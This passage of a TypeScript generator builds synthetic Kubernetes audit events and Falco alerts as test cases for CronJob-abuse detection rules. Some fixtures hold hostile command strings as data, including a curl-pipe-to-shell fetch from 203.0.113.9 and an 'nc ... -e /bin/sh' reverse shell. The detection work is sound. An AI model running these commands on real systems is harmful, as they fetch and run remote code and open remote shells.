            'Succeeded',
            'alice@example.com',
          ),
        ],
      },
      'failed-cronjob-write': {
        records: [
          activity('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE', 'Failed'),
        ],
      },
      'deployment-write': {
        records: [
          activity(
            'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/APPS/DEPLOYMENTS/WRITE',
            'Succeeded',
            'alice@example.com',
          ),
        ],
      },
    },
  },
];

const backupCreated = () => createCronJob(PEOPLE.ci, BACKUP, { userAgent: AGENTS.helm });
const swappedImage = {
  ...BACKUP,
  containers: [{ ...(BACKUP.containers[0] as Container), image: 'ghcr.io/x0r/pg-backup:15.4' }],
};

/** Lets time pass between the events of a sequence. */
export function wait(minutes: number): void {
  tick += minutes * 60_000;
}

export function podOfJob(
  job: string,
  namespace: string,
  containers: Container[],
  extra: Partial<AuditOptions> = {},
): Json {
  const suffix = createHash('sha256').update(`${job}-${tick}`).digest('hex').slice(0, 5);
  const metadata = {
    generateName: `${job}-`,
    namespace,
    labels: {
      'batch.kubernetes.io/job-name': job,
      'job-name': job,
      'batch.kubernetes.io/controller-uid': uuidOf(`job-${job}`),
      'controller-uid': uuidOf(`job-${job}`),
    },
    ownerReferences: [
      {
        apiVersion: 'batch/v1',
        kind: 'Job',
        name: job,
        uid: uuidOf(`job-${job}`),
        controller: true,
        blockOwnerDeletion: true,
      },
    ],
  };
  const spec = { containers, restartPolicy: 'Never' };
  return audit({
    verb: 'create',
    resource: 'pods',
    apiGroup: '',
    namespace,
    user: PEOPLE.jobController,
    userAgent: AGENTS.controller.replace('cronjob-controller', 'job-controller'),
    sourceIP: '10.224.0.4',
    request: { kind: 'Pod', apiVersion: 'v1', metadata, spec },
    response: {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: { ...metadata, name: `${job}-${suffix}`, uid: uuidOf(`pod-${job}-${suffix}`) },
      spec: { ...spec, containers: containers.map(defaultedContainer) },
    },
    ...extra,
  });
}

/** containerd's 64-hex id for a pod's container (seeded by the names: same every run). */
export function containerIdOf(pod: string, container: string): string {
  return createHash('sha256').update(`${pod}/${container}`).digest('hex');
}

export interface StartedPod {
  readonly name: string;
  readonly namespace: string;
  readonly uid: string;
  readonly containers: readonly { name: string; image: string; id: string }[];
}

/**
 * The kubelet's status patch once the pod's containers run (Request level, as the usual audit
 * policies log `pods/status`): the container ids lineage joins endpoint events on.
 */
export function podStatus(pod: StartedPod, node: string): Json {
  const started = new Date(clockNow()).toISOString();
  return audit({
    verb: 'patch',
    resource: 'pods',
    subresource: 'status',
    apiGroup: '',
    namespace: pod.namespace,
    name: pod.name,
    user: { username: `system:node:${node}`, groups: ['system:nodes', 'system:authenticated'] },
    level: 'Request',
    userAgent: 'kubelet/v1.30.2 (linux/amd64) kubernetes/3968350',
    sourceIP: '10.224.0.5',
    request: {
      metadata: { uid: pod.uid },
      status: {
        $setElementOrder_conditions: [{ type: 'Initialized' }, { type: 'Ready' }],
        containerStatuses: pod.containers.map((c) => ({
          containerID: `containerd://${c.id}`,
          image: c.image,
          imageID: `${c.image.split(':')[0]}@sha256:${createHash('sha256').update(c.image).digest('hex')}`,
          name: c.name,
          ready: true,
          restartCount: 0,
          started: true,
          state: { running: { startedAt: started } },
        })),
        phase: 'Running',
        podIP: '10.244.1.23',
      },
    },
  });
}

/**
 * One Falco alert (`json_output: true`) on the node: a process event in a pod's container.
 * `podKnown: false` is Falco before its Kubernetes metadata arrives (`<NA>` pod and
 * namespace): only `container.id` links it, through the kubelet's status patch.
 */
export function falcoAlert(
  timeMs: number,
  pod: StartedPod,
  node: string,
  alert: {
    rule: string;
    priority: string;
    evtType: string;
    exe: string;
    cmdline: string;
    parentExe: string;
    parentCmdline: string;
    pid: number;
    sip?: string;
    sport?: number;
    podKnown?: boolean;
    tags: string[];
  },
): Json {
  const container = pod.containers[0] as StartedPod['containers'][number];
  const [repository, tag] = container.image.split(':');
  const podName = alert.podKnown === false ? '<NA>' : pod.name;
  const namespace = alert.podKnown === false ? '<NA>' : pod.namespace;
  const time = `${new Date(timeMs).toISOString().slice(0, -1)}123456Z`;
  const connection = alert.sip ? ` connection=${alert.sip}:${alert.sport}` : '';
  return {
    hostname: node,
    output: `${time.slice(11, 26)}: ${alert.priority} ${alert.rule} (user=root process=${alert.exe.split('/').pop()} command=${alert.cmdline} parent=${alert.parentExe.split('/').pop()}${connection} container_id=${container.id.slice(0, 12)} container_name=${container.name} image=${repository}:${tag} k8s_pod_name=${podName} k8s_ns_name=${namespace})`,
    output_fields: {
      'container.id': container.id.slice(0, 12),
      'container.image.repository': repository,
      'container.image.tag': tag,
      'container.name': container.name,
      'evt.time': timeMs * 1_000_000 + 123_456,
      'evt.type': alert.evtType,
      ...(alert.sip ? { 'fd.sip': alert.sip, 'fd.sport': alert.sport } : {}),
      'k8s.ns.name': namespace,
      'k8s.pod.name': podName,
      'proc.cmdline': alert.cmdline,
      'proc.exepath': alert.exe,
      'proc.pcmdline': alert.parentCmdline,
      'proc.pexepath': alert.parentExe,
      'proc.pid': alert.pid,
      'user.name': 'root',
    },
    priority: alert.priority,
    rule: alert.rule,
    source: 'syscall',
    tags: alert.tags,
    time,
  };
}

/** The pod a job-controller create made (name and uid from the response), with container ids. */
export function startedPod(podEvent: Json, containers: readonly Container[]): StartedPod {
  const metadata = (podEvent.responseObject as Json).metadata as Json;
  const name = String(metadata.name);
  return {
    name,
    namespace: String(metadata.namespace),
    uid: String(metadata.uid),
    containers: containers.map((c) => ({
      name: c.name,
      image: c.image,
      id: containerIdOf(name, c.name),
    })),
  };
}

export function jobOfCronJob(cron: CronJobOptions, minutes: number): Json {
  return createJob(
    PEOPLE.cronjobController,
    {
      name: `${cron.name}-${minutes}`,
      namespace: cron.namespace,
      containers: cron.containers,
      metadata: {
        ownerReferences: [
          {
            apiVersion: 'batch/v1',
            kind: 'CronJob',
            name: cron.name,
            uid: uuidOf(`cj-${cron.namespace}-${cron.name}`),
            controller: true,
            blockOwnerDeletion: true,
          },
        ],
      },
    },
    { userAgent: AGENTS.controller, sourceIP: '10.224.0.4' },
  );
}

export function binding(
  kind: 'RoleBinding' | 'ClusterRoleBinding',
  name: string,
  namespace: string | undefined,
  roleRef: Json,
  subjects: Json[],
  user: Json = PEOPLE.alice,
): Json {
  const body = {
    kind,
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name, ...(namespace ? { namespace } : {}) },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', ...roleRef },
    subjects,
  };
  return audit({
    verb: 'create',
    resource: kind === 'RoleBinding' ? 'rolebindings' : 'clusterrolebindings',
    apiGroup: 'rbac.authorization.k8s.io',
    ...(namespace ? { namespace } : {}),
    name,
    user,
    request: body,
    response: body,
  });
}

function role(
  kind: 'Role' | 'ClusterRole',
  name: string,
  namespace: string | undefined,
  rules: Json[],
): Json {
  const body = {
    kind,
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name, ...(namespace ? { namespace } : {}) },
    rules,
  };
  return audit({
    verb: 'create',
    resource: kind === 'Role' ? 'roles' : 'clusterroles',
    apiGroup: 'rbac.authorization.k8s.io',
    ...(namespace ? { namespace } : {}),
    name,
    user: PEOPLE.alice,
    request: body,
    response: body,
  });
}

/** An EKS subscription payload whose only message was cut by CloudWatch at `keep` chars. */
function eksTruncated(event: Json, keep: number): Json {
  const time = Date.parse(String(event.stageTimestamp));
  return {
    messageType: 'DATA_MESSAGE',
    owner: '111122223333',
    logGroup: '/aws/eks/prod/cluster',
    logStream: 'kube-apiserver-audit-8b5f0ad2c4f84b3e9a1c2d3e4f5a6b7c',
    subscriptionFilters: ['cronwarden-audit'],
    logEvents: [
      {
        id: `3${String(time).padStart(55, '0')}`,
        timestamp: time,
        message: `${JSON.stringify(event).slice(0, keep)}[Truncated...]`,
      },
    ],
  };
}

/** Event sequences for the stateful analytics (one .jsonl per case, in time order). */

const TEST_NODE = 'aks-nodepool1-12345678-vmss000001';
const SHELL_ALERT = {
  rule: 'Run shell untrusted',
  priority: 'Notice',
  evtType: 'execve',
  exe: '/bin/sh',
  cmdline: 'sh -c id',
  parentExe: '/app/report',
  parentCmdline: 'report --since=24h',
  pid: 17,
  tags: ['container', 'mitre_execution', 'shell'],
};

/**
 * CW-014's process path: the benign report CronJob's scheduled Job and Pod, the kubelet's
 * status patch with the container id, then one Falco alert in that pod.
 */
function reportRunWithProcess(alert: Parameters<typeof falcoAlert>[3]): Json[] {
  const saved = clockNow(); // the other cases keep their times
  const cron = createCronJob(PEOPLE.ci, REPORT, { userAgent: AGENTS.helm });
  const job = jobOfCronJob(REPORT, 29401110);
  const pod = podOfJob('daily-report-29401110', 'analytics', REPORT.containers);
  const started = startedPod(pod, REPORT.containers);
  const status = podStatus(started, TEST_NODE);
  const alerted = falcoAlert(clockNow() + 5_000, started, TEST_NODE, alert);
  setClock(saved);
  return [cron, job, pod, status, alerted];
}

/** A shell in a Deployment's pod (owned by a ReplicaSet): not scheduled work. */
function shellInDeploymentPod(): Json[] {
  const saved = clockNow();
  const metadata = {
    name: 'web-7d9f8b6c5d-x2k4q',
    namespace: 'shop',
    uid: uuidOf('pod-web-7d9f8b6c5d-x2k4q'),
    labels: { app: 'web', 'pod-template-hash': '7d9f8b6c5d' },
    ownerReferences: [
      { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-7d9f8b6c5d', controller: true },
    ],
  };
  const containers = [{ name: 'web', image: 'registry.example.com/shop/web:4.2.1' }];
  const pod = audit({
    verb: 'create',
    resource: 'pods',
    apiGroup: '',
    namespace: 'shop',
    user: { username: 'system:serviceaccount:kube-system:replicaset-controller' },
    userAgent: AGENTS.controller.replace('cronjob-controller', 'replicaset-controller'),
    sourceIP: '10.224.0.4',
    request: { kind: 'Pod', apiVersion: 'v1', metadata, spec: { containers } },
    response: { kind: 'Pod', apiVersion: 'v1', metadata, spec: { containers } },
  });
  const started = startedPod(pod, containers);
  const records = [
    pod,
    podStatus(started, TEST_NODE),
    falcoAlert(clockNow() + 5_000, started, TEST_NODE, SHELL_ALERT),
  ];
  setClock(saved);
  return records;
}

const ANALYTIC_CASES: RuleCases[] = [
  {
    rule: 'rules/analytics/cw-005-cronjob-tampering',
    tp: {
      'strategic-patch-swaps-image-request-level': [
        backupCreated(),
        audit({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.mallory,
          level: 'Request',
          uriQuery: '?fieldManager=kubectl-patch',
          request: {
            spec: {
              jobTemplate: {
                spec: {
                  template: {
                    spec: { containers: [{ name: 'backup', image: 'ghcr.io/x0r/pg-backup:15.4' }] },
                  },
                },
              },
            },
          },
        }),
      ],
      'update-replaces-command': [
        backupCreated(),
        audit({
          verb: 'update',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.alice,
          request: cronJob(
            {
              ...BACKUP,
              containers: [
                {
                  ...(BACKUP.containers[0] as Container),
                  command: ['/bin/sh', '-c', 'curl -s http://203.0.113.9/x | sh'],
                },
              ],
            },
            true,
          ),
          response: cronJob(
            {
              ...BACKUP,
              containers: [
                {
                  ...(BACKUP.containers[0] as Container),
                  command: ['/bin/sh', '-c', 'curl -s http://203.0.113.9/x | sh'],
                },
              ],
            },
            true,
          ),
        }),
      ],
      'json-patch-on-unknown-cronjob': [
        audit({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.mallory,
          request: [
            {
              op: 'replace',
              path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
              value: 'ghcr.io/x0r/pg-backup:15.4',
            },
          ],
          response: cronJob(swappedImage, true),
        }),
      ],
      'server-side-apply-changes-service-account': [
        backupCreated(),
        audit({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.alice,
          level: 'Request',
          uriQuery: '?fieldManager=kubectl&force=true',
          request: {
            apiVersion: 'batch/v1',
            kind: 'CronJob',
            metadata: { name: 'db-backup', namespace: 'payments' },
            spec: {
              jobTemplate: {
                spec: { template: { spec: { serviceAccountName: 'payments-admin' } } },
              },
            },
          },
        }),
      ],
    },
    fp: {
      'label-patch': [
        backupCreated(),
        audit({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.alice,
          request: { metadata: { labels: { tier: 'gold' } } },
          response: cronJob(BACKUP, true),
        }),
      ],
      'controller-status-update': [
        backupCreated(),
        audit({
          verb: 'update',
          resource: 'cronjobs',
          subresource: 'status',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.cronjobController,
          userAgent: AGENTS.controller,
          request: cronJob(BACKUP, true),
          response: cronJob(BACKUP, true),
        }),
      ],
      'denied-image-patch': [
        backupCreated(),
        audit({
          verb: 'patch',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.mallory,
          code: 403,
          request: [
            {
              op: 'replace',
              path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
              value: 'ghcr.io/x0r/pg-backup:15.4',
            },
          ],
        }),
      ],
      'reapply-identical-spec': [
        backupCreated(),
        audit({
          verb: 'update',
          resource: 'cronjobs',
          namespace: 'payments',
          name: 'db-backup',
          user: PEOPLE.ci,
          userAgent: AGENTS.helm,
          request: cronJob(BACKUP, true),
          response: cronJob(BACKUP, true),
        }),
      ],
    },
  },
  {
    rule: 'rules/analytics/cw-007-first-seen-job-writer',
    tp: {
      'ci-account-first-cronjob': [createCronJob(PEOPLE.ci, REPORT, { userAgent: AGENTS.helm })],
      'pod-token-first-job': [
        createJob(
          PEOPLE.webPod,
          {
            name: 'x',
            namespace: 'shop',
            containers: [{ name: 'x', image: 'alpine:3.20', command: ['id'] }],
          },
          { userAgent: AGENTS.curl },
        ),
      ],
    },
    fp: {
      'human-writes': [createCronJob(PEOPLE.alice, REPORT)],
      'controller-writes': [jobOfCronJob(BACKUP, 29401170)],
      'denied-service-account': [
        createCronJob(PEOPLE.webPod, { ...REVERSE_SHELL, namespace: 'shop' }, { code: 403 }),
      ],
    },
  },
  {
    rule: 'rules/analytics/cw-009-image-risk',
    tp: {
      'docker-hub-image': [createCronJob(PEOPLE.mallory, REVERSE_SHELL)],
      'ghcr-image-in-job': [
        createJob(PEOPLE.alice, {
          name: 'scan',
          namespace: 'default',
          containers: [{ name: 'scan', image: 'ghcr.io/x0r/kit:0.3' }],
        }),
      ],
    },
    fp: {
      'controller-pod-with-public-image': [
        podOfJob('db-backup-29401170', 'payments', [{ name: 'x', image: 'alpine:3.20' }]),
      ],
      'trusted-and-seen-before': [
        podOfJob('db-backup-29401169', 'payments', BACKUP.containers),
        createCronJob(PEOPLE.ci, BACKUP, { userAgent: AGENTS.helm }),
      ],
      'denied-create': [createCronJob(PEOPLE.mallory, REVERSE_SHELL, { code: 403 })],
    },
  },
  {
    rule: 'rules/analytics/cw-014-job-lineage',
    tp: {
      // The process path: a benign chain, a shell or network tool in its pod (medium).
      'shell-in-job-pod-named-by-falco': reportRunWithProcess(SHELL_ALERT),
      'netcat-in-job-pod-joined-by-container-id': reportRunWithProcess({
        ...SHELL_ALERT,
        exe: '/usr/bin/nc',
        cmdline: 'nc 203.0.113.9 4444 -e /bin/sh',
        podKnown: false,
      }),
      'reverse-shell-cronjob-spawns-pod': [
        createCronJob(PEOPLE.mallory, REVERSE_SHELL),
        jobOfCronJob(REVERSE_SHELL, 29401171),
        podOfJob('kube-metrics-sync-29401171', 'default', REVERSE_SHELL.containers),
      ],
      'privileged-job-spawns-pod': [
        createJob(PEOPLE.mallory, {
          name: 'node-debug',
          namespace: 'default',
          containers: [
            { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } },
          ],
          extra: { hostPID: true },
        }),
        podOfJob('node-debug', 'default', [
          { name: 'debug', image: 'busybox:1.36', securityContext: { privileged: true } },
        ]),
      ],
    },
    fp: {
      'backup-cronjob-chain': [
        createCronJob(PEOPLE.ci, BACKUP),
        jobOfCronJob(BACKUP, 29401170),
        podOfJob('db-backup-29401170', 'payments', BACKUP.containers),
      ],
      'pod-of-unknown-job': [podOfJob('daily-report-29401100', 'analytics', REPORT.containers)],
      'job-pod-runs-its-own-binary': reportRunWithProcess({
        ...SHELL_ALERT,
        rule: 'Contact K8S API Server From Container',
        evtType: 'connect',
        exe: '/app/report',
        cmdline: 'report --since=24h',
        sip: '10.0.0.1',
        sport: 443,
      }),
      'shell-in-deployment-pod': shellInDeploymentPod(),
    },
  },
  {
    rule: 'rules/analytics/cw-016-truncated-job-event',
    tp: {
      'eks-truncated-cronjob-create': eksTruncated(
        createCronJob(PEOPLE.mallory, REVERSE_SHELL),
        1400,
      ),
      'eks-truncated-job-update': eksTruncated(
        audit({
          verb: 'update',
          resource: 'jobs',
          namespace: 'default',
          name: 'x',
          user: PEOPLE.alice,
          request: job(
            { name: 'x', namespace: 'default', containers: [{ name: 'x', image: 'alpine:3.20' }] },
            true,
          ),
        }),
        900,
      ),
    },
    fp: {
      'eks-truncated-configmap': eksTruncated(
        audit({
          verb: 'create',
          resource: 'configmaps',
          apiGroup: '',
          namespace: 'default',
          name: 'big',
          user: PEOPLE.alice,
          request: {
            kind: 'ConfigMap',
            apiVersion: 'v1',
            metadata: { name: 'big' },
            data: { blob: 'x'.repeat(2000) },
          },
        }),
        1200,
      ),
      'eks-complete-cronjob-create': toEksComplete(createCronJob(PEOPLE.mallory, REVERSE_SHELL)),
      'eks-truncated-controller-job': eksTruncated(jobOfCronJob(BACKUP, 29401172), 1300),
    },
  },
  {
    rule: 'rules/analytics/cw-017-rbac-grant-then-job',
    tp: {
      'edit-granted-then-cronjob': (() => {
        const grant = binding(
          'RoleBinding',
          'mallory-edit',
          'default',
          { kind: 'ClusterRole', name: 'edit' },
          [
            {
              kind: 'User',
              apiGroup: 'rbac.authorization.k8s.io',
              name: 'mallory@contractor.example',
            },
          ],
        );
        wait(5);
        return [grant, createCronJob(PEOPLE.mallory, REVERSE_SHELL)];
      })(),
      'custom-role-to-service-account-then-job': (() => {
        const roleEvent = role('ClusterRole', 'batch-runner', undefined, [
          {
            apiGroups: ['batch'],
            resources: ['jobs', 'cronjobs'],
            verbs: ['create', 'get', 'list'],
          },
        ]);
        const grant = binding(
          'ClusterRoleBinding',
          'deployer-batch',
          undefined,
          { kind: 'ClusterRole', name: 'batch-runner' },
          [{ kind: 'ServiceAccount', name: 'deployer', namespace: 'ci' }],
        );
        wait(10);
        return [
          roleEvent,
          grant,
          createJob(PEOPLE.ci, {
            name: 'sync',
            namespace: 'ci',
            containers: [{ name: 'sync', image: 'alpine:3.20' }],
          }),
        ];
      })(),
    },
    fp: {
      'create-long-after-grant': (() => {
        const grant = binding(
          'RoleBinding',
          'mallory-edit',
          'default',
          { kind: 'ClusterRole', name: 'edit' },
          [
            {
              kind: 'User',
              apiGroup: 'rbac.authorization.k8s.io',
              name: 'mallory@contractor.example',
            },
          ],
        );
        wait(45);
        return [grant, createCronJob(PEOPLE.mallory, REVERSE_SHELL)];
      })(),
      'read-only-role-granted': (() => {
        const roleEvent = role('Role', 'job-viewer', 'default', [
          {
            apiGroups: ['batch'],
            resources: ['jobs', 'cronjobs'],
            verbs: ['get', 'list', 'watch'],
          },
        ]);
        const grant = binding(
          'RoleBinding',
          'alice-view',
          'default',
          { kind: 'Role', name: 'job-viewer' },
          [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'alice@example.com' }],
        );
        wait(3);
        return [roleEvent, grant, createCronJob(PEOPLE.alice, { ...REPORT, namespace: 'default' })];
      })(),
      'grant-in-other-namespace': (() => {
        const grant = binding(
          'RoleBinding',
          'mallory-edit',
          'staging',
          { kind: 'ClusterRole', name: 'edit' },
          [
            {
              kind: 'User',
              apiGroup: 'rbac.authorization.k8s.io',
              name: 'mallory@contractor.example',
            },
          ],
        );
        wait(2);
        return [grant, createCronJob(PEOPLE.mallory, REVERSE_SHELL)];
      })(),
    },
  },
];

function toEksComplete(event: Json): Json {
  const time = Date.parse(String(event.stageTimestamp));
  return {
    messageType: 'DATA_MESSAGE',
    owner: '111122223333',
    logGroup: '/aws/eks/prod/cluster',
    logStream: 'kube-apiserver-audit-8b5f0ad2c4f84b3e9a1c2d3e4f5a6b7c',
    subscriptionFilters: ['cronwarden-audit'],
    logEvents: [
      { id: `3${String(time).padStart(55, '0')}`, timestamp: time, message: JSON.stringify(event) },
    ],
  };
}

function write(path: string, value: Json | Json[]): void {
  mkdirSync(dirname(path), { recursive: true });
  const text = Array.isArray(value)
    ? value.map((event) => JSON.stringify(event)).join('\n')
    : JSON.stringify(value);
  writeFileSync(path, `${text}\n`);
}

if (import.meta.url === `file://${process.argv[1]}`) {
  for (const { rule, tp, fp } of [...CASES, ...AZURE_CASES, ...ANALYTIC_CASES]) {
    const folder = `${ROOT}${rule}.tests`;
    rmSync(folder, { recursive: true, force: true });
    for (const [expected, cases] of [
      ['tp', tp],
      ['fp', fp],
    ] as const) {
      for (const [name, value] of Object.entries(cases)) {
        write(`${folder}/${expected}/${name}.${Array.isArray(value) ? 'jsonl' : 'json'}`, value);
      }
    }
  }
}
